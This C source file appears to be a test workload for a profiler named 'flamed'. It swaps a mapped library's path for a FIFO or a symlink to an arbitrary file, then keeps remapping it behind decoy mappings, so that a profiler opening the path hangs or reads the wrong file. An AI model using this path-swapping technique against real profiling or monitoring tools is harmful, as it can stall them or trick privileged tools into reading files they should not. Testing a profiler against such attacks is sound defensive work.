// SPDX-License-Identifier: MIT
/* Attacker: maps a library, then takes its path away from flamed. Usage:
 *   attack_swap fifo|symlink|none LIB SECONDS [TARGET]
 * dlopen()s LIB and runs its attack_entry_fn for SECONDS; before that it unlinks LIB and puts a
 * FIFO (fifo) or a symlink to TARGET (symlink) in its place (none: just unlinks it), and maps the
 * file again and again at moving addresses below the library, so /proc/PID/map_files/START-END
 * of those mappings is gone by the time anyone opens it. A profiler that then opens the path from
 * the maps line blocks on the FIFO, or reads TARGET through the symlink, or (none) opens that
 * path in its own mount namespace. The moving mappings come after DECOYS small files mapped at
 * lower addresses (default 1000, created next to LIB), so that a profiler opening each mapped
 * file in address order gives the moving one time to move (the attacker may get little CPU).
 * The burning thread runs at nice 19 for the same reason. Prints "pid N" once the trap is set. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "workload.h"

#define SLOTS	   4096
#define BASE	   0x200000000UL /* far below the mmap area where dlopen put the library */
#define DECOY_BASE 0x100000000UL /* decoys, below BASE */

static int lib_fd;
static size_t map_len;
static volatile int stop;

/* Keep one extra mapping of the file alive, each time at another place. */
static void *churn(void *arg)
{
	void *prev = NULL;
	unsigned slot = 0;

	(void)arg;
	while (!stop) {
		void *want = (void *)(BASE + (uintptr_t)slot * 2 * map_len);
		void *p = mmap(want, map_len, PROT_READ | PROT_EXEC,
			       MAP_PRIVATE | MAP_FIXED_NOREPLACE, lib_fd, 0);

		if (p != MAP_FAILED && prev)
			munmap(prev, map_len);
		if (p != MAP_FAILED)
			prev = p;
		slot = (slot + 1) % SLOTS;
	}
	return NULL;
}

/* n one-page files, each mapped executable once and unlinked (nothing left on disk after). */
static int map_decoys(const char *lib, int n)
{
	char path[4096], page[4096];

	memset(page, 0xc3, sizeof(page));
	for (int i = 0; i < n; i++) {
		void *want = (void *)(DECOY_BASE + (uintptr_t)i * 2 * sizeof(page));
		int fd;

		snprintf(path, sizeof(path), "%s.decoy%d", lib, i);
		fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		if (fd < 0 || write(fd, page, sizeof(page)) != (ssize_t)sizeof(page) ||
		    mmap(want, sizeof(page), PROT_READ | PROT_EXEC,
			 MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0) == MAP_FAILED) {
			perror(path);
			return -1;
		}
		close(fd);
		unlink(path);
	}
	return 0;
}

int main(int argc, char **argv)
{
	uint64_t (*entry)(uint64_t);
	double seconds;
	uint64_t end_ns;
	pthread_t th;
	struct stat st;
	void *h;

	if (argc < 4 || workload_parse_seconds(argv[3], &seconds) ||
	    (strcmp(argv[1], "fifo") && strcmp(argv[1], "symlink") && strcmp(argv[1], "none")) ||
	    (!strcmp(argv[1], "symlink") && argc < 5)) {
		fprintf(stderr, "usage: attack_swap fifo|symlink|none LIB SECONDS [TARGET]\n");
		return 2;
	}
	h = dlopen(argv[2], RTLD_NOW);
	if (!h) {
		fprintf(stderr, "attack_swap: %s\n", dlerror());
		return 1;
	}
	entry = (uint64_t(*)(uint64_t))dlsym(h, "attack_entry_fn");
	lib_fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (!entry || lib_fd < 0 || fstat(lib_fd, &st) || unlink(argv[2])) {
		perror("attack_swap: setup");
		return 1;
	}
	map_len = ((size_t)st.st_size + 4095) & ~(size_t)4095;
	if (map_decoys(argv[2], getenv("DECOYS") ? atoi(getenv("DECOYS")) : 1000))
		return 1;
	if ((!strcmp(argv[1], "fifo") && mkfifo(argv[2], 0666)) ||
	    (!strcmp(argv[1], "symlink") && symlink(argv[4], argv[2]))) {
		perror("attack_swap: swap");
		return 1;
	}
	if (pthread_create(&th, NULL, churn, NULL)) {
		fprintf(stderr, "attack_swap: pthread_create failed\n");
		return 1;
	}
	setpriority(PRIO_PROCESS, (id_t)gettid(), 19); /* this thread only: churn first */
	printf("pid %d\n", (int)getpid());
	fflush(stdout);
	end_ns = workload_clock_ns(CLOCK_MONOTONIC) + (uint64_t)(seconds * 1e9);
	while (workload_clock_ns(CLOCK_MONOTONIC) < end_ns)
		entry(1000000);
	stop = 1;
	pthread_join(th, NULL);
	return 0;
}
